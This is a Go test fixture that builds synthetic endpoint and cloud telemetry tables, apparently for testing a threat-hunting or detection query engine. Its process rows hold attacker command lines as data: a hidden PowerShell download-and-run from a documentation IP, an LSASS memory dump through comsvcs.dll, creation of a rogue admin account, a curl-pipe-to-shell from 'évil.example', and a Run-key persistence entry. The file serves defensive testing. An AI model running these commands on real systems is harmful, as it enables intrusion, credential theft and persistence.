package testkit

import "fmt"

// The rows of the fixture. Devices: d1 alpha, d2 beta, d3 gamma, and d4,
// which has no name. The window begins at 2026-10-02T12:00:00Z.

func processEvents() []record {
	var rows []record
	add := func(at, device, name, file, command, account, parent string, pid int) {
		rows = append(rows, record{"Timestamp": at, "DeviceId": device, "DeviceName": name, "ActionType": "ProcessCreated", "FileName": file,
			"FolderPath": `C:\Windows\System32\` + file, "ProcessCommandLine": command, "AccountName": account,
			"InitiatingProcessFileName": parent, "ProcessId": pid, "ReportId": len(rows) + 1})
	}
	for hour := range 12 {
		add(fmt.Sprintf("2026-10-30T%02d:00:00Z", hour), "d1", "alpha", "svchost.exe", "svchost.exe -k netsvcs", "system", "services.exe", 1000+hour)
	}
	add("2026-10-30T08:15:00Z", "d1", "alpha", "cmd.exe", `cmd.exe /c whoami /all`, "alice", "explorer.exe", 2001)
	add("2026-10-30T08:15:01Z", "d1", "alpha", "whoami.exe", `whoami /all`, "alice", "cmd.exe", 2002)
	add("2026-10-30T08:16:30.5Z", "d1", "alpha", "powershell.exe", `powershell.exe -NoProfile -EncodedCommand ZQBjAGgAbwAgADEA`, "alice", "cmd.exe", 2003)
	add("2026-10-30T09:00:00.0000001Z", "d2", "beta", "powershell.exe", `powershell -w hidden -c "iwr http://203.0.113.5/a.ps1 | iex"`, "bob", "WINWORD.EXE", 3001)
	add("2026-10-30T09:00:07Z", "d2", "beta", "rundll32.exe", `rundll32.exe comsvcs.dll, MiniDump 640 C:\temp\l.dmp full`, "bob", "powershell.exe", 3002)
	add("2026-10-31T00:00:00Z", "d2", "beta", "net.exe", `net user eve "P@ss w0rd" /add`, "bob", "cmd.exe", 3003)
	add("2026-10-31T00:00:02Z", "d2", "beta", "net1.exe", `net1 localgroup administrators eve /add`, "bob", "net.exe", 3004)
	add("2026-10-31T12:30:00Z", "d3", "gamma", "bash", `bash -c 'curl -s https://évil.example/x | sh'`, "root", "sshd", 4001)
	add("2026-10-31T12:30:01Z", "d3", "gamma", "curl", `curl -s https://évil.example/x`, "root", "bash", 4002)
	add("2026-10-31T12:30:01Z", "d3", "gamma", "sh", ``, "root", "bash", 4003)
	add("2026-11-01T11:59:59.9999999Z", "d4", "", "reg.exe", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d calc.exe`, "", "cmd.exe", 5001)
	rows[len(rows)-1]["ProcessId"] = nil
	add("2026-10-02T12:00:00Z", "d1", "alpha", "first.exe", "first of the window", "system", "services.exe", 1)
	add("2026-10-03T00:00:00Z", "d1", "alpha", "early.exe", "early in the window", "system", "services.exe", 2)
	for i, at := range []string{"2026-10-02T11:59:59.9999999Z", "2026-10-01T00:00:00Z", "2026-09-01T08:00:00Z", "2020-02-29T00:00:00Z", "0001-01-01T00:00:00Z"} {
		add(at, "d1", "alpha", Outside+".exe", Outside, Outside, Outside, OutsideNumber)
		rows[len(rows)-1]["DeviceName"] = Outside
		rows[len(rows)-1]["ReportId"] = OutsideNumber + i
	}
	return with(rows, record{"AccountDomain": "corp"})
}

func networkEvents() []record {
	return []record{
		{"Timestamp": "2026-10-30T08:16:31Z", "DeviceId": "d1", "DeviceName": "alpha", "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.5", "RemotePort": 80, "RemoteUrl": "http://203.0.113.5/a.ps1", "InitiatingProcessFileName": "powershell.exe", "ReportId": 1},
		{"Timestamp": "2026-10-30T08:20:00Z", "DeviceId": "d1", "DeviceName": "alpha", "ActionType": "ConnectionFailed", "RemoteIP": "198.51.100.7", "RemotePort": 4444, "InitiatingProcessFileName": "powershell.exe", "ReportId": 2},
		{"Timestamp": "2026-10-30T09:00:02Z", "DeviceId": "d2", "DeviceName": "beta", "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.5", "RemotePort": 80, "RemoteUrl": "http://203.0.113.5/a.ps1", "InitiatingProcessFileName": "powershell.exe", "ReportId": 3},
		{"Timestamp": "2026-10-31T12:30:02Z", "DeviceId": "d3", "DeviceName": "gamma", "ActionType": "ConnectionSuccess", "RemoteIP": "2001:db8::1", "RemotePort": 443, "RemoteUrl": "évil.example", "InitiatingProcessFileName": "curl", "ReportId": 4},
		{"Timestamp": "2026-10-31T12:31:00Z", "DeviceId": "d9", "DeviceName": "unknown", "ActionType": "InboundConnectionAccepted", "RemoteIP": "10.0.0.9", "ReportId": 5},
		{"Timestamp": "2026-09-15T00:00:00Z", "DeviceId": "d1", "DeviceName": Outside, "ActionType": Outside, "RemoteIP": Outside, "RemotePort": OutsideNumber, "RemoteUrl": Outside, "InitiatingProcessFileName": Outside, "ReportId": OutsideNumber},
	}
}

func logonEvents() []record {
	return []record{
		{"Timestamp": "2026-10-30T08:00:00Z", "DeviceId": "d1", "DeviceName": "alpha", "ActionType": "LogonSuccess", "LogonType": "Interactive", "AccountName": "alice", "IsLocalAdmin": false, "LogonId": 100},
		{"Timestamp": "2026-10-30T08:55:00Z", "DeviceId": "d2", "DeviceName": "beta", "ActionType": "LogonSuccess", "LogonType": "RemoteInteractive", "AccountName": "bob", "IsLocalAdmin": true, "LogonId": 200, "RemoteIP": "198.51.100.7"},
		{"Timestamp": "2026-10-31T12:29:00Z", "DeviceId": "d3", "DeviceName": "gamma", "ActionType": "LogonFailed", "LogonType": "Network", "AccountName": "root", "FailureReason": "InvalidUserNameOrPassword"},
		{"Timestamp": "2026-10-31T12:29:05Z", "DeviceId": "d3", "DeviceName": "gamma", "ActionType": "LogonSuccess", "LogonType": "Network", "AccountName": "root", "LogonId": 300},
		{"Timestamp": "2026-08-01T00:00:00Z", "DeviceId": "d1", "DeviceName": Outside, "ActionType": Outside, "AccountName": Outside, "LogonId": OutsideNumber},
	}
}

func fileEvents() []record {
	return []record{
		{"Timestamp": "2026-10-30T09:00:08Z", "DeviceId": "d2", "DeviceName": "beta", "ActionType": "FileCreated", "FileName": "l.dmp", "FolderPath": `C:\temp\l.dmp`, "FileSize": 5_000_000_000, "SHA1": "aa11", "InitiatingProcessFileName": "rundll32.exe", "InitiatingProcessId": 3002, "RequestSourcePort": 445},
		{"Timestamp": "2026-10-31T12:30:03Z", "DeviceId": "d3", "DeviceName": "gamma", "ActionType": "FileCreated", "FileName": "x", "FolderPath": `/tmp/x`, "FileSize": 12, "SHA1": "bb22", "InitiatingProcessFileName": "curl"},
		{"Timestamp": "2026-07-01T00:00:00Z", "DeviceId": "d1", "DeviceName": Outside, "ActionType": Outside, "FileName": Outside, "FileSize": OutsideNumber, "SHA1": Outside},
	}
}

func deviceInfo() []record {
	return []record{
		{"Timestamp": "2026-10-30T00:00:00Z", "DeviceId": "d1", "DeviceName": "alpha", "OSPlatform": "Windows11", "OSBuild": 22631, "IsAzureADJoined": true, "LoggedOnUsers": `[{"UserName":"alice"}]`},
		{"Timestamp": "2026-10-31T00:00:00Z", "DeviceId": "d1", "DeviceName": "alpha", "OSPlatform": "Windows11", "OSBuild": 26100, "IsAzureADJoined": true, "LoggedOnUsers": `[{"UserName":"alice"},{"UserName":"carol"}]`},
		{"Timestamp": "2026-10-31T00:00:00Z", "DeviceId": "d2", "DeviceName": "beta", "OSPlatform": "Windows10", "OSBuild": 19045, "IsAzureADJoined": false},
		{"Timestamp": "2026-10-31T00:00:00Z", "DeviceId": "d3", "DeviceName": "gamma", "OSPlatform": "Linux", "LoggedOnUsers": `not json`},
		{"Timestamp": "2026-06-01T00:00:00Z", "DeviceId": "d1", "DeviceName": Outside, "OSPlatform": Outside, "OSBuild": OutsideNumber},
	}
}

func alertEvidence() []record {
	return []record{
		{"Timestamp": "2026-10-30T09:05:00Z", "AlertId": "a1", "Title": "Credential dumping", "EntityType": "Process", "DeviceId": "d2", "DeviceName": "beta", "FileName": "rundll32.exe", "SHA1": "cc33", "Severity": "High"},
		{"Timestamp": "2026-10-30T09:05:00Z", "AlertId": "a1", "Title": "Credential dumping", "EntityType": "File", "DeviceId": "d2", "DeviceName": "beta", "FileName": "l.dmp", "SHA1": "aa11", "Severity": "High"},
		{"Timestamp": "2026-05-01T00:00:00Z", "AlertId": Outside, "Title": Outside, "DeviceId": "d1", "DeviceName": Outside, "Severity": Outside},
	}
}

func cloudEvents() []record {
	return []record{
		{"Timestamp": "2026-10-30T10:00:00Z", "ActionType": "New-InboxRule", "AccountDisplayName": "Bob", "RawEventData": `{"Parameters":[{"Name":"DeleteMessage","Value":"True"},{"Name":"From","Value":"it@corp"}],"Count":3,"Score":0.5}`, "IPTags": `["Tor","Risky"]`},
		{"Timestamp": "2026-10-30T11:00:00Z", "ActionType": "FileDownloaded", "AccountDisplayName": "Alice", "RawEventData": `{"Parameters":[],"Count":"7","Nested":{"A":{"b":[1,2,{"c":null}]}}}`, "IPTags": `[]`},
		{"Timestamp": "2026-10-30T12:00:00Z", "ActionType": "FileDeleted", "AccountDisplayName": "Alice"},
		{"Timestamp": "2026-04-01T00:00:00Z", "ActionType": Outside, "AccountDisplayName": Outside, "RawEventData": `{"Outside":"` + Outside + `"}`, "IPTags": `["` + Outside + `"]`},
	}
}

func inventory() []record {
	return []record{
		{"DeviceId": "d1", "DeviceName": "alpha", "SoftwareName": "office", "SoftwareVersion": "16.0.1"},
		{"DeviceId": "d2", "DeviceName": "beta", "SoftwareName": "office", "SoftwareVersion": "15.0.9", "EndOfSupportDate": "2029-04-11"},
		{"DeviceId": "d3", "DeviceName": "gamma", "SoftwareName": "openssh", "SoftwareVersion": "9.2"},
	}
}
